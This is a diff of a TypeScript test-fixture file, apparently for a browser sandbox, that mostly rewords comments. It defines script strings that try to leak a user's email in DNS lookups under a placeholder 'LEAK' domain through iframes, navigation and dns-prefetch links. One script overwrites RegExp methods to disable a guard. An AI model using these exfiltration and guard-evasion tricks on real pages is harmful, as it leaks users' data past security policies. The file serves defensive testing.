@@ -1,5 +1,5 @@
-// Scripts that put what they know into the name of a host, which a browser may look up before its policy stops the request. `LEAK`
-// is a domain; a lookup of any name below it is a leak.
+// Scripts that put data into a host name, which a browser may look up before its policy stops the request. `LEAK` is a domain; a
+// lookup of any name below it is a leak.
 
 const asModule = (body: string): string => `export default async function start(portal) {
   const secret = portal.context.user.email.replaceAll('@', '-at-');
@@ -7,7 +7,7 @@ const asModule = (body: string): string => `export default async function start(
   ${body}
 }`;
 
-/** Each is stopped before anything is looked up, and the module ends. */
+/** Each is stopped before any lookup, and the module ends. */
 export const leakyScripts: Readonly<Record<string, string>> = {
   'vaza-por-quadro': asModule(`
     document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://' + secret + '.quadro.LEAK/' }));
@@ -34,7 +34,7 @@ export const leakyScripts: Readonly<Record<string, string>> = {
     frame.src = 'http://' + secret + '.elemento.LEAK/';
     document.body.append(frame);
   `),
-  /** Takes the doors off their hinges first: the built-ins that a guard in the same realm would call. */
+  /** First replaces the built-ins that a guard in the same realm would call. */
   'vaza-sem-guarda': asModule(`
     RegExp.prototype.exec = () => null;
     RegExp.prototype.test = () => false;
@@ -48,14 +48,14 @@ export const leakyScripts: Readonly<Record<string, string>> = {
   `),
 };
 
-/** No policy of content stops the name of the page that a frame goes to; the list of connections does. */
+/** No content policy stops the lookup of the page that a frame navigates to; the list of connections does. */
 export const leavingScripts: Readonly<Record<string, string>> = {
   'vaza-ao-sair': asModule("location.href = 'http://' + secret + '.saida.LEAK/';"),
 };
 
-/** Each finds its way closed and goes on: nothing is looked up, and nothing has to end. */
-export const closedWays: Readonly<Record<string, string>> = {
-  /** Looks for a link that the document has of its own, to change where it points. */
+/** Each API is closed and the script continues: no name is looked up, and the module does not end. */
+export const closedApis: Readonly<Record<string, string>> = {
+  /** Changes the address of an existing link of the document. */
   'muda-o-que-existe': asModule(`
     const own = document.querySelector('link, iframe, frame');
     if (own) { own.rel = 'dns-prefetch'; own.href = 'http://' + secret + '.proprio.LEAK/'; document.head.append(own.cloneNode()); }
@@ -71,7 +71,7 @@ export const closedWays: Readonly<Record<string, string>> = {
     } catch {}
     portal.kit.page({ title: found });
   `),
-  /** Would take the listeners of the runtime with the document. */
+  /** Would remove the listeners of the runtime with the document. */
   'apaga-o-documento': asModule(`
     let found = 'Nada';
     try { document.open(); document.write('<p>x</p>'); found = 'Achou'; } catch {}
@@ -79,7 +79,7 @@ export const closedWays: Readonly<Record<string, string>> = {
   `),
 };
 
-/** Mistakes of authors, which the policy stops before anything leaves: the module goes on without what it asked for. */
+/** Mistakes of authors. The policy stops their requests, and the module continues without them. */
 export const harmlessMistakes: Readonly<Record<string, string>> = {
   'imagem-de-fora': asModule(`
     document.body.append(Object.assign(document.createElement('img'), { src: 'http://imagem.LEAK/logo.png', alt: '' }));
